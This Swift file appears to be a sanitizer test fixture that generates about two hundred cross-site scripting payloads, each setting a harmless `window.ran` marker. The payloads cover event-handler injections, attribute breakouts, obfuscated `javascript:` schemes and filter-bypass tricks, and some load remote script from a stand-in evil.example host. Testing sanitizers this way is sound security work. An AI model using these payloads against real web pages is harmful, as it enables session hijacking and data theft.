/// Two hundred strings that set `window.ran` in a page that lets text become markup.
enum Attacks {
    static let strings: [String] = {
        var found: [String] = []
        let code = "window.ran=1"
        let events = [
            "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart",
            "onpointerenter", "oninput",
        ]
        for event in events {
            found += [
                "<img src=x \(event)=\(code)>", "<svg \(event)=\(code)>", "<body \(event)=\(code)>",
                "<details open \(event)=\(code)>", "\" \(event)=\"\(code)", "' \(event)='\(code)",
                "<input autofocus \(event)=\(code)>", "</title><img src=x \(event)=\(code)>",
                "</script><svg/\(event)=\(code)>", "</style><img src=x \(event)=\(code)>",
                "<math><mtext><img src=x \(event)=\(code)></mtext></math>", "--><img src=x \(event)=\(code)>",
            ]
        }
        let schemes = [
            "javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "javascript&colon;", "&#106;avascript:",
            "vbscript:", "data:text/html,<script>\(code)</script>", "data:text/html;base64,PHNjcmlwdD4=",
            "//evil.example/",
            "jav&#x0A;ascript:", "\u{1}javascript:",
        ]
        for scheme in schemes {
            found += [
                scheme + code, "<a href=\"\(scheme)\(code)\">x</a>", "<iframe src=\"\(scheme)\(code)\"></iframe>",
                "[x](\(scheme)\(code))", "![x](\(scheme)\(code))",
            ]
        }
        found += [
            "<script>\(code)</script>", "<SCRIPT>\(code)</SCRIPT>", "<scr<script>ipt>\(code)</scr</script>ipt>",
            "<script src=//evil.example/x.js></script>", "</script><script>\(code)</script>",
            "<!--<script>\(code)//-->",
            "<svg><script>\(code)</script></svg>", "<iframe srcdoc=\"<script>parent.ran=1</script>\">",
            "<object data=\"javascript:\(code)\">", "<embed src=\"javascript:\(code)\">", "<base href=//evil.example/>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content=\"0;javascript:\(code)\">",
            "<style>@import '//evil.example/x.css'</style>",
            "<form action=javascript:\(code)><button>x</button></form>",
            "<template><script>\(code)</script></template>",
            "<noscript><p title=\"</noscript><script>\(code)</script>\">",
            "{{ \(code) }}x", "${\(code)}", "`\(code)`</code><script>\(code)</script>", "]]><script>\(code)</script>",
            "&lt;script&gt;\(code)&lt;/script&gt;", "\\u003cscript\\u003e\(code)\\u003c/script\\u003e",
            "\u{2028}</script><script>\(code)</script>", "\u{202E}<script>\(code)</script>",
        ]
        return found
    }()
}
